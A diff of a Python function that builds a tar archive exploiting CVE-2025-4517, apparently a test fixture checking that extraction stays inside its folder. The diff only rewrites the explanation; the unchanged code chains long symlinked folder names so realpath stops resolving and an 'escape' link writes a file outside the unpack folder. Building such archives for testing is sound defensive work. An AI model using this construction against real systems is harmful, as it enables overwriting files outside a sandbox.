@@ -142,10 +142,10 @@ def chain_of_links():
     """Returns an archive that exploits CVE-2025-4517.
 
     `tarfile` finds the target of a link with `realpath`, which does not resolve links in a path of
-    more than 4,096 characters. In this archive, each link of the chain stands for a folder name of
-    247 characters, so the resolved path is too long for `realpath`. Because `realpath` does not
-    resolve the links, `tarfile` does not notice that the target of the last link is outside the
-    folder for the unpacked files.
+    more than 4,096 characters. In this archive, `realpath` resolves 16 links to a path of almost
+    4,000 characters. The next link, whose name has 254 characters, makes the path too long, so
+    `realpath` does not resolve this link. `tarfile` therefore does not notice that the link
+    `escape` leads out of the folder for the unpacked files.
     """
     steps, folder, path, links = "abcdefghijklmnop", "d" * 247, "", []
     for step in steps:
@@ -153,8 +153,8 @@ def chain_of_links():
         path += f"{folder}/"
     deep = f"{'/'.join(steps)}/{'l' * 254}"
     links += [member(deep, SYMLINK, "../" * len(steps))]
-    # The archive is unpacked into `cache`/TEMPORARY/`content`, so `../../../outside` is the path of
-    # the folder `outside`, which is next to `cache`.
+    # `../../../outside` leads from `cache`/TEMPORARY/`content`, the folder for the unpacked files,
+    # to the folder `outside`, which is next to `cache`.
     links += [member("escape", SYMLINK, f"{deep}/../../../outside")]
     return members(*links, member("flag", tarfile.LNKTYPE, "escape/file"), (member("flag"), b"!"))
 
